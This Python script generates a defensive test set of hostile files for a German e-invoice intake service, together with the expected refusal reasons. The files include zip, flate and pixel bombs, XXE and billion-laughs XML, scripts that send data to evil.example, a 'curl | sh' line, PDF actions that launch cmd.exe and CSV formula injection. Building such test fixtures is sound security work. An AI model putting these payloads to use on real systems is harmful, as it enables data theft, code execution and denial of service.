#!/usr/bin/env python3
"""Writes the hostile-document set next to this script, and cases.tsv and README.md describing it.

Run once (python3 generate.py) and commit the outputs; the tests read the files, never this script.
Bombs are small on disk: deflate applied twice, or image headers that claim a huge size.
"""
import io
import os
import struct
import zipfile
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.abspath(os.path.join(HERE, "..", "..", "..", ".."))
SAMPLES = os.path.join(ROOT, "sample-invoices")
CASES = []  # (file, intake outcome, German word expected in the REST reason, in the CLI result, what it is)


def case(name, content, intake, rest_word, cli_word, what):
    with open(os.path.join(HERE, name), "wb") as out:
        out.write(content if isinstance(content, bytes) else content.encode("utf-8"))
    CASES.append((name, intake, rest_word, cli_word, what))


# ---------------------------------------------------------------- PDF building blocks

def pdf(objects, root=1, trailer_extra=""):
    """A PDF with correct offsets; objects are bytes bodies numbered from 1."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root %d 0 R %s>>\nstartxref\n%d\n%%%%EOF\n"
              % (len(objects) + 1, root, trailer_extra.encode(), xref))
    return out.getvalue()


def stream(dictionary, data):
    return b"<< " + dictionary.encode() + b" /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"


def zeros_deflated(size, chunk=1 << 20):
    compressor = zlib.compressobj(9)
    parts = []
    block = bytes(chunk)
    for _ in range(size // chunk):
        parts.append(compressor.compress(block))
    parts.append(compressor.flush())
    return b"".join(parts)


def text_page_pdf(lines, extra_catalog="", extra_objects=()):
    """One A4 page with Helvetica text lines (latin-1), optionally more catalog entries and objects."""
    content = b"BT /F1 11 Tf 56 780 Td 14 TL " + b"".join(
        b"(" + line.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)").encode("latin-1") + b") Tj T* "
        for line in lines) + b"ET"
    objects = [
        ("<< /Type /Catalog /Pages 2 0 R %s>>" % extra_catalog).encode(),
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        stream("/Filter /FlateDecode", zlib.compress(content)),
    ]
    objects.extend(extra_objects)
    return pdf(objects)


INVOICE_LINES = ["Muster GmbH, Hauptstr. 1, 10115 Berlin", "USt-IdNr.: DE123456789",
                 "Rechnung Nr. 2026-0815", "Rechnungsdatum: 02.03.2026",
                 "Nettobetrag 100,00 EUR", "USt 19 % 19,00 EUR", "Gesamtbetrag 119,00 EUR",
                 "IBAN: DE02120300000000202051"]


def blank_page_pdf(extra_catalog="", extra_objects=(), page_extra=""):
    objects = [
        ("<< /Type /Catalog /Pages 2 0 R %s>>" % extra_catalog).encode(),
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        ("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] %s>>" % page_extra).encode(),
    ]
    objects.extend(extra_objects)
    return pdf(objects)


def with_attachment(name, data, filters="/FlateDecode", encoded=None):
    """A blank-page PDF carrying one embedded file (as ZUGFeRD / Factur-X PDFs carry their XML)."""
    body = encoded if encoded is not None else zlib.compress(data)
    return blank_page_pdf(
        extra_catalog="/Names << /EmbeddedFiles << /Names [(%s) 4 0 R] >> >> /AF [4 0 R] " % name,
        extra_objects=[
            ("<< /Type /Filespec /F (%s) /UF (%s) /AFRelationship /Alternative /EF << /F 5 0 R /UF 5 0 R >> >>"
             % (name, name)).encode(),
            stream("/Type /EmbeddedFile /Subtype /text#2Fxml /Filter [%s]" % filters, body),
        ])


# ---------------------------------------------------------------- images

def png_claiming(width, height):
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    idat = zlib.compress(bytes(1 + 64) * 64)  # a few rows: the header is what counts
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


def tiff_pages(sizes):
    """Little-endian TIFF, one uncompressed grey strip per page of the given (width, height) sizes."""
    out = bytearray(b"II*\x00" + struct.pack("<I", 0))
    previous_next = 4
    for width, height in sizes:
        strip = bytes(min(width * height, 16))
        strip_offset = len(out)
        out += strip
        ifd = len(out)
        struct.pack_into("<I", out, previous_next, ifd)
        entries = [(256, 4, 1, width), (257, 4, 1, height), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1),
                   (273, 4, 1, strip_offset), (277, 3, 1, 1), (278, 4, 1, height), (279, 4, 1, min(width * height, 0xFFFFFFFF))]
        out += struct.pack("<H", len(entries))
        for tag, kind, count, value in entries:
            out += struct.pack("<HHII", tag, kind, count, value)
        previous_next = len(out)
        out += struct.pack("<I", 0)
    return bytes(out)


def jpeg_claiming(width, height):
    # SOI, APP0, a baseline SOF0 header with the claimed size, then EOI: no pixels at all
    sof = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\x01\x11\x00"
    app0 = b"\xff\xe0" + struct.pack(">H", 16) + b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    dqt = b"\xff\xdb" + struct.pack(">H", 67) + b"\x00" + bytes([1] * 64)
    sos = b"\xff\xda" + struct.pack(">H", 8) + b"\x01\x01\x00\x00\x3f\x00"
    return b"\xff\xd8" + app0 + dqt + sof + sos + bytes(64) + b"\xff\xd9"


# ---------------------------------------------------------------- XML

UBL = open(os.path.join(SAMPLES, "xrechnung-ubl-01.20a.xml"), encoding="utf-8").read()
CII = open(os.path.join(SAMPLES, "xrechnung-cii-01.11a.xml"), encoding="utf-8").read()


def ubl_with_seller(name, number="1234567890"):
    return (UBL.replace("<cbc:RegistrationName>Betriebsstätte</cbc:RegistrationName>",
                        "<cbc:RegistrationName>%s</cbc:RegistrationName>" % name, 1)
            .replace("<cbc:ID>1234567890</cbc:ID>", "<cbc:ID>%s</cbc:ID>" % number, 1))


def with_doctype(xml, doctype):
    body = xml.split("?>", 1)[1] if xml.startswith("<?xml") else xml
    return '<?xml version="1.0" encoding="UTF-8"?>\n' + doctype + body


LAUGHS = ('<!DOCTYPE lolz [<!ENTITY lol "lol">'
          + "".join('<!ENTITY lol%d "%s">' % (i, ("&lol%d;" % (i - 1) if i > 1 else "&lol;") * 10)
                    for i in range(1, 10)) + "]>\n")


def ubl_entity(doctype, entity):
    return with_doctype(UBL.replace("<cbc:ID>1234567890</cbc:ID>", "<cbc:ID>%s</cbc:ID>" % entity, 1), doctype)


def cii_entity(doctype, entity):
    marker = "<ram:ID>"
    at = CII.index(marker)
    return with_doctype(CII[:at] + "<ram:ID>" + entity + "</ram:ID><ram:Unused>" + CII[at + len(marker):], doctype) \
        .replace("<ram:Unused>", "<!--", 1).replace("</ram:ID>", "-->", 2).replace("-->", "</ram:ID>", 1)


# ================================================================= the cases

# --- decompression bombs
inner = zeros_deflated(4 << 30)
case("pdf-flate-bomb.pdf", blank_page_pdf(page_extra="/Contents 4 0 R ", extra_objects=[
    stream("/Filter [/FlateDecode /FlateDecode]", zlib.compress(inner, 9))]),
     "REVIEW", "Dekompressionsbombe", "Dekompressionsbombe",
     "content stream deflated twice: a few KB on disk, 4 GiB inflated")
case("pdf-flate-bomb-single.pdf", blank_page_pdf(page_extra="/Contents 4 0 R ", extra_objects=[
    stream("/Filter /FlateDecode", zeros_deflated(300 << 20))]),
     "REVIEW", "Dekompressionsbombe", "Dekompressionsbombe",
     "content stream deflated once, 300 MiB of zeros inflated (above the 256 MB default)")
case("pdf-objstm-bomb.pdf", blank_page_pdf(extra_objects=[
    stream("/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode]", zlib.compress(inner, 9))]),
     "REVIEW", "Dekompressionsbombe", "Dekompressionsbombe",
     "object stream deflated twice to 4 GiB: PDFBox would inflate it while opening the file")
case("pdf-attachment-xml-bomb.pdf", with_attachment("factur-x.xml", None, "/FlateDecode /FlateDecode",
                                                    zlib.compress(inner, 9)),
     "REVIEW", "Dekompressionsbombe", "Dekompressionsbombe",
     "ZUGFeRD-style attachment factur-x.xml deflated twice to 4 GiB: Mustang would read it whole")
zip_bomb = io.BytesIO()
with zipfile.ZipFile(zip_bomb, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
    for i in range(4):
        archive.writestr("rechnung-%d.xml" % i, bytes(64 << 20))
case("pdf-attachment-zip-bomb.pdf", with_attachment("rechnungen.zip", zip_bomb.getvalue(), "/FlateDecode"),
     "REVIEW", "Keine Rechnungsangaben", "Keine Rechnungsangaben",
     "blank page with an attached ZIP of 4 x 64 MiB zeros: nothing in kmu-flow unpacks attachments")
case("pdf-image-pixel-bomb.pdf", blank_page_pdf(
    page_extra="/Resources << /XObject << /Im1 4 0 R >> >> /Contents 5 0 R ", extra_objects=[
        stream("/Type /XObject /Subtype /Image /Width 100000 /Height 100000 /ColorSpace /DeviceGray"
               " /BitsPerComponent 8 /Filter /FlateDecode", zlib.compress(bytes(1000))),
        stream("", b"q 595 0 0 842 0 0 cm /Im1 Do Q")]),
     "REVIEW", "zu groß", "zu groß", "image XObject declaring 100000 x 100000 pixels (10 gigapixels)")
case("pdf-huge-page.pdf", pdf([
    b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 14400 14400] >>"]),
     "REVIEW", "zu groß", "zu groß", "one empty page of 200 x 200 inches: 3.6 gigapixels when rendered for OCR")
kids = " ".join("%d 0 R" % (4 + i) for i in range(1000))
case("pdf-1000-pages.pdf", pdf([b"<< /Type /Catalog /Pages 2 0 R >>",
                                ("<< /Type /Pages /Kids [%s] /Count 1000 >>" % kids).encode(),
                                stream("", b"BT /F1 12 Tf 72 720 Td (Seite) Tj ET")]
                               + [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R >>"] * 1000),
     "REVIEW", "Seiten", "Seiten", "1,000 pages with hardly any text: OCR of every page would take many minutes")
case("png-pixel-bomb.png", png_claiming(100000, 100000), "REVIEW", "zu groß", "zu groß",
     "PNG header claiming 100000 x 100000 grey pixels, a few rows of data")
case("tiff-pixel-bomb.tif", tiff_pages([(100000, 100000)]), "REVIEW", "zu groß", "zu groß",
     "TIFF claiming 100000 x 100000 pixels in one strip")
case("jpeg-pixel-bomb.jpg", jpeg_claiming(65000, 65000), "REVIEW", "zu groß", "zu groß",
     "JPEG frame header claiming 65000 x 65000 pixels, no scan data")
case("tiff-500-pages.tif", tiff_pages([(8, 8)] * 500), "REVIEW", "Seiten", "Seiten",
     "TIFF with 500 tiny pages (the limit is 200)")

# --- XML attacks
case("ubl-xxe-file.xml", ubl_entity('<!DOCTYPE Invoice [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n', "&x;"),
     "REFUSED", "DOCTYPE", "DOCTYPE", "UBL whose invoice number is an external entity reading /etc/passwd")
case("ubl-xxe-http.xml", ubl_entity('<!DOCTYPE Invoice [<!ENTITY x SYSTEM "http://127.0.0.1:9/x">]>\n', "&x;"),
     "REFUSED", "DOCTYPE", "DOCTYPE", "UBL with an external entity fetching a local URL (SSRF)")
case("ubl-external-dtd.xml", with_doctype(UBL, '<!DOCTYPE Invoice SYSTEM "http://127.0.0.1:9/invoice.dtd">\n'),
     "REFUSED", "DOCTYPE", "DOCTYPE", "UBL referring to an external DTD")
case("ubl-parameter-entity.xml", ubl_entity(
    '<!DOCTYPE Invoice [<!ENTITY % p SYSTEM "http://127.0.0.1:9/p.dtd"> %p;]>\n', "1"),
     "REFUSED", "DOCTYPE", "DOCTYPE", "UBL with an external parameter entity (out-of-band XXE)")
case("ubl-billion-laughs.xml", ubl_entity(LAUGHS, "&lol9;"), "REFUSED", "DOCTYPE", "DOCTYPE",
     "UBL with nested entities expanding to 10^9 'lol' (billion laughs)")
case("cii-xxe-file.xml", cii_entity('<!DOCTYPE rsm:CrossIndustryInvoice [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n',
                                    "&x;"),
     "REFUSED", "DOCTYPE", "DOCTYPE", "CII whose invoice number is an external entity reading /etc/passwd")
case("cii-billion-laughs.xml", cii_entity(LAUGHS, "&lol9;"), "REFUSED", "DOCTYPE", "DOCTYPE",
     "CII with the billion-laughs entities")
case("zugferd-xxe.pdf", with_attachment("factur-x.xml", cii_entity(
    '<!DOCTYPE rsm:CrossIndustryInvoice [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n', "&x;").encode()),
     "REVIEW", "Keine Rechnungsangaben", "Keine Rechnungsangaben",
     "blank PDF carrying factur-x.xml with an external entity: the XML is refused, the page has no invoice data")
case("zugferd-billion-laughs.pdf", with_attachment("factur-x.xml", cii_entity(LAUGHS, "&lol9;").encode()),
     "REVIEW", "Keine Rechnungsangaben", "Keine Rechnungsangaben",
     "blank PDF carrying factur-x.xml with the billion-laughs entities: the XML is refused, the page has no invoice data")
case("ubl-xinclude.xml", UBL.replace("<cbc:Note>#REG#Betriebsstätte</cbc:Note>",
                                     '<cbc:Note><xi:include xmlns:xi="http://www.w3.org/2001/XInclude"'
                                     ' href="file:///etc/passwd" parse="text"/></cbc:Note>', 1),
     "READ", "-", "-", "UBL with an XInclude of /etc/passwd in a note: read, never included")
case("ubl-deep-nesting.xml", UBL.replace("<cbc:Note>#REG#Betriebsstätte</cbc:Note>",
                                         "<cbc:Note>" + "<x>" * 50000 + "</x>" * 50000 + "</cbc:Note>", 1),
     "REFUSED", "verschachtelt", "verschachtelt", "UBL with 50,000 nested elements inside a note (overflowed the validator's stack)")
case("xml-other-root.xml", '<?xml version="1.0"?><note><to>Buchhaltung</to><body>Bitte zahlen</body></note>',
     "REFUSED", "keine E-Rechnung", "keine E-Rechnung", "well-formed XML that is no e-invoice")
case("ubl-wrong-namespace.xml", UBL.replace("urn:oasis:names:specification:ubl:schema:xsd:Invoice-2",
                                            "urn:example:fake", 1),
     "REFUSED", "keine E-Rechnung", "keine E-Rechnung", "an Invoice root element outside the UBL namespace")

# --- active content and spoofed names
HTML = ('<!DOCTYPE html><html><head><meta http-equiv="refresh" content="0;url=https://evil.example/"></head>'
        '<body><form action="https://evil.example/login" method="post"><input name="password"></form>'
        '<script>fetch("/api/invoices").then(r => r.text()).then(t => navigator.sendBeacon("https://evil.example", t))'
        '</script></body></html>')
SVG = ('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">'
       '<script>alert(document.cookie)</script><rect width="100" height="100"/></svg>')
XHTML = ('<?xml version="1.0" encoding="UTF-8"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>Rechnung'
         '</title></head><body><script>alert(document.domain)</script></body></html>')
case("html-named.pdf", HTML, "REFUSED", "Webseiten", "Webseiten", "an HTML page with script, form and meta refresh, named .pdf")
case("html-plain.html", HTML, "REFUSED", "Webseiten", "Webseiten", "the same HTML page under its own name")
case("svg-with-script.svg", SVG, "REFUSED", "Webseiten", "Webseiten", "SVG with a script element")
case("svg-named.pdf", SVG, "REFUSED", "Webseiten", "Webseiten", "the SVG named .pdf")
case("xhtml-named.xml", XHTML, "REFUSED", "Webseiten", "Webseiten", "XHTML with a script, named .xml")
case("html-then-pdf.pdf", HTML + "\n%PDF-1.4\n" + text_page_pdf(INVOICE_LINES).decode("latin-1"),
     "REFUSED", "Webseiten", "Webseiten", "polyglot: HTML first, a PDF after it (PDF readers look for %PDF- late)")
pdf_html = text_page_pdf(INVOICE_LINES).replace(b"%PDF-1.7\n", b"%PDF-1.7\n%<html><body><script>alert(1)</script>"
                                                             b"<form action=https://evil.example></form></body></html>\n", 1)
case("pdf-with-html.pdf", pdf_html, "READ", "-", "-",
     "polyglot: a valid text PDF with an HTML page in a comment; stored and served as application/pdf only")
case("exe-named.pdf", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + bytes(48) + b"PE\x00\x00" + bytes(200),
     "REFUSED", "keine Rechnung", "wird nicht gelesen", "a Windows executable header named .pdf")
case("script-named.pdf", 'var shell = new ActiveXObject("WScript.Shell"); shell.Run("calc.exe");\n',
     "REFUSED", "keine Rechnung", "wird nicht gelesen", "JavaScript named .pdf")
case("shell-named.xml", "#!/bin/sh\ncurl https://evil.example/x | sh\n", "REFUSED", "keine Rechnung",
     "wird nicht gelesen", "a shell script named .xml")
zip_plain = io.BytesIO()
with zipfile.ZipFile(zip_plain, "w") as archive:
    archive.writestr("rechnung.pdf", text_page_pdf(INVOICE_LINES))
case("zip-named.pdf", zip_plain.getvalue(), "REFUSED", "keine Rechnung", "wird nicht gelesen",
     "a ZIP archive holding a PDF, named .pdf")
case("gif-named.png", b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00"
                      b",\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;",
     "REFUSED", "keine Rechnung", "wird nicht gelesen", "a GIF named .png (not a type the reader handles)")

# --- broken, locked, empty, odd
case("empty.pdf", b"", "REFUSED", "leer", "leer", "0 bytes")
case("truncated.pdf", text_page_pdf(INVOICE_LINES)[:400], "REVIEW", "Keine Rechnungsangaben",
     "Keine Rechnungsangaben", "the first 400 bytes of a text PDF: no cross-reference table, no trailer, no text")
case("truncated.png", png_claiming(2000, 2000)[:60], "REVIEW", "beschädigt", "beschädigt",
     "a PNG cut off inside its image data")
with open(os.path.join(SAMPLES, "bad", "encrypted.pdf"), "rb") as encrypted:
    # a comment after the end: other bytes than the sample's, so the document store keeps it apart
    case("encrypted.pdf", encrypted.read() + b"%hostile-set\n", "REVIEW", "Passwort", "Passwort",
         "a text invoice encrypted with AES-128 and a user password (copy of sample-invoices/bad/encrypted.pdf)")
case("huge-single-line.txt", "A" * (2 << 20), "REFUSED", "keine Rechnung", "wird nicht gelesen",
     "2 MiB of one letter without a line break")
case("pdf-huge-single-line.pdf", text_page_pdf(INVOICE_LINES + ["Position " + "X" * 20000]),
     "READ", "-", "-", "text invoice with one 20,000-character line")
case("random-bytes.pdf", bytes((i * 7919 + 13) % 251 for i in range(4096)), "REFUSED", "keine Rechnung",
     "wird nicht gelesen", "4 KiB of noise named .pdf")
case("pdf-javascript.pdf", text_page_pdf(INVOICE_LINES, extra_catalog="/OpenAction 6 0 R ", extra_objects=[
    b"<< /Type /Action /S /JavaScript /JS (app.alert\\('kmu'\\); this.submitForm\\('https://evil.example'\\);) >>"]),
     "READ", "-", "-", "text invoice whose OpenAction runs JavaScript (never run: served sandboxed)")
case("pdf-launch-action.pdf", text_page_pdf(INVOICE_LINES, extra_catalog="/OpenAction 6 0 R ", extra_objects=[
    b"<< /Type /Action /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>"]),
     "READ", "-", "-", "text invoice whose OpenAction launches cmd.exe")

# --- values that attack the people who read them
case("ubl-formula-seller.xml", ubl_with_seller('=HYPERLINK("https://evil.example/?d="&amp;A1;"Rechnung")',
                                               "=1+2"),
     "READ", "-", "-",
     "UBL whose seller name is =HYPERLINK(...) and invoice number =1+2 (CSV formula injection)")
case("ubl-bidi-seller.xml", ubl_with_seller("Lieferant \u202egdc.exe", "R\u202e-0815"), "REVIEW", "Steuerzeichen",
     "Steuerzeichen", "UBL whose seller name and number carry a right-to-left override (U+202E)")
case("cii-bidi-seller.xml", CII.replace("<ram:Name>", "<ram:Name>\u2067\u200f", 1), "REVIEW", "Steuerzeichen",
     "Steuerzeichen", "CII whose first name carries an isolate and a right-to-left mark")


# ---------------------------------------------------------------- the table
with open(os.path.join(HERE, "cases.tsv"), "w", encoding="utf-8") as table:
    table.write("file\tintake\trest_reason\tcli_result\twhat\n")
    for row in CASES:
        table.write("\t".join(row) + "\n")
with open(os.path.join(HERE, "README.md"), "w", encoding="utf-8") as readme:
    readme.write("""# Hostile documents

Files an attacker or a broken scanner might send as an invoice. `generate.py` wrote them once (from the
samples in `sample-invoices/`); `cases.tsv` is the table the tests read. Every case must end, within
seconds, either **refused** at intake (4xx with a German reason, nothing stored) or **stored and sent to
review** with a German reason, or **read** like any invoice when the attack is in parts nothing runs
(scripts in a PDF, an XInclude); the `extract` command prints a German error for it (or, `-`, reads it).

| file | bytes | intake | German reason contains | `extract` result contains | what it is |
|---|---:|---|---|---|---|
""")
    for name, intake, rest_word, cli_word, what in CASES:
        size = os.path.getsize(os.path.join(HERE, name))
        readme.write("| `%s` | %d | %s | %s | %s | %s |\n" % (name, size, intake.lower(), rest_word,
                                                              "read without error" if cli_word == "-" else cli_word, what))
print(len(CASES), "cases")
